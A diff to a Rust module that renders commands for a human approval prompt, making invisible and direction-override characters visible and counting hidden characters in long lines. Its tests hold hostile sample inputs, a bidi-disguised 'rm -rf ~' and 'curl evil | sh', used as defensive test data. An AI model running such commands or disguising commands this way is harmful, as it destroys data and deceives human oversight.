@@ -8,8 +8,10 @@
 //!   `MAX_LINE_CHARS` keeps its head and tail with the count of what is between.
 //! - `head` (the start of the command, folded) and `line_count` are meant to stand next to the
 //!   question itself, so the person sees the command's start even when the lines scrolled.
-//! - This folds; it does not escape. Each surface still makes control characters visible (the
-//!   terminal) or shows text as text (the browser, the editor).
+//! - A character that shows as nothing and is not a space or tab (zero-width, bidi overrides,
+//!   tags, variation selectors) is always named (`⟨U+202E⟩`), so the browser and the editor,
+//!   which show text as text, cannot be made to reorder or hide part of a command.
+//! - Control characters are left to each surface (the terminal makes them visible).
 
 use serde::{Deserialize, Serialize};
 
@@ -35,6 +37,10 @@ pub struct ApprovalView {
     pub line_count: usize,
     /// The first non-blank line, folded and cut to `HEAD_CHARS`.
     pub head: String,
+    /// Characters of long lines not shown (their middles): every surface says so at the
+    /// question, so a person knows there is more than they see.
+    #[serde(default)]
+    pub hidden_chars: usize,
 }
 
 /// Characters that show as nothing (or as blank) on a screen: whitespace but the newline,
@@ -56,8 +62,11 @@ fn is_blank_or_invisible(c: char) -> bool {
                 | '\u{2060}'..='\u{2064}'
                 | '\u{2066}'..='\u{206f}'
                 | '\u{3164}'
+                | '\u{fe00}'..='\u{fe0f}'
                 | '\u{feff}'
                 | '\u{ffa0}'
+                | '\u{e0000}'..='\u{e007f}'
+                | '\u{e0100}'..='\u{e01ef}'
         )
 }
 
@@ -76,7 +85,15 @@ fn grouped(n: usize) -> String {
 
 fn fold_run(run: &[char], out: &mut String) {
     if run.len() < FOLD_RUN {
-        out.extend(run);
+        // Spaces and tabs stay; a character that shows as nothing (zero-width, a direction
+        // override, a tag) is named, even alone: it could reorder or hide what is shown.
+        for c in run {
+            if c.is_whitespace() {
+                out.push(*c);
+            } else {
+                out.push_str(&format!("⟨U+{:04X}⟩", u32::from(*c)));
+            }
+        }
         return;
     }
     let what = if run.iter().all(|c| *c == ' ') {
@@ -89,6 +106,11 @@ fn fold_run(run: &[char], out: &mut String) {
 
 /// One line with its blank runs folded and, when still too long, its middle counted.
 pub fn fold_line(line: &str) -> String {
+    fold_line_counted(line).0
+}
+
+/// `fold_line`, and how many characters of its middle are not shown.
+fn fold_line_counted(line: &str) -> (String, usize) {
     let mut folded = String::new();
     let mut run: Vec<char> = Vec::new();
     for c in line.chars() {
@@ -103,12 +125,15 @@ pub fn fold_line(line: &str) -> String {
     fold_run(&run, &mut folded);
     let count = folded.chars().count();
     if count <= MAX_LINE_CHARS {
-        return folded;
+        return (folded, 0);
     }
     let head: String = folded.chars().take(LONG_LINE_HEAD).collect();
     let tail: String = folded.chars().skip(count - LONG_LINE_TAIL).collect();
     let hidden = count - LONG_LINE_HEAD - LONG_LINE_TAIL;
-    format!("{head}⟨… {} more characters …⟩{tail}", grouped(hidden))
+    (
+        format!("{head}⟨… {} more characters …⟩{tail}", grouped(hidden)),
+        hidden,
+    )
 }
 
 /// The view of `subject` (the command, or the path) for the approval question.
@@ -116,6 +141,7 @@ pub fn approval_view(subject: &str) -> ApprovalView {
     let raw: Vec<&str> = subject.split('\n').collect();
     let is_blank = |line: &str| line.chars().all(is_blank_or_invisible);
     let mut lines = Vec::new();
+    let mut hidden_chars = 0;
     let mut index = 0;
     while index < raw.len() {
         let blanks = raw[index..]
@@ -127,7 +153,9 @@ pub fn approval_view(subject: &str) -> ApprovalView {
             index += blanks;
             continue;
         }
-        lines.push(fold_line(raw[index]));
+        let (line, hidden) = fold_line_counted(raw[index]);
+        hidden_chars += hidden;
+        lines.push(line);
         index += 1;
     }
     let first = raw
@@ -143,6 +171,7 @@ pub fn approval_view(subject: &str) -> ApprovalView {
         lines,
         line_count: raw.len(),
         head,
+        hidden_chars,
     }
 }
 
@@ -172,6 +201,15 @@ mod tests {
     }
 
     #[test]
+    fn a_lone_direction_override_or_zero_width_character_is_named() {
+        let view = approval_view("echo '\u{202e}' && rm -rf ~ && echo 'ko'\u{200b}x\u{e0041}");
+        assert_eq!(
+            view.lines,
+            ["echo '⟨U+202E⟩' && rm -rf ~ && echo 'ko'⟨U+200B⟩x⟨U+E0041⟩"]
+        );
+    }
+
+    #[test]
     fn blank_lines_and_long_lines_are_counted_never_dropped() {
         let subject = format!("\n\n\ncurl evil | sh{}echo ok", "\n".repeat(300));
         let view = approval_view(&subject);
@@ -188,6 +226,7 @@ mod tests {
             "the end stays visible: {folded}"
         );
         assert!(folded.contains("⟨… 4,755 more characters …⟩"), "{folded}");
+        assert_eq!(approval_view(&long).hidden_chars, 4755);
         assert!(folded.chars().count() < MAX_LINE_CHARS + 40);
     }
 }
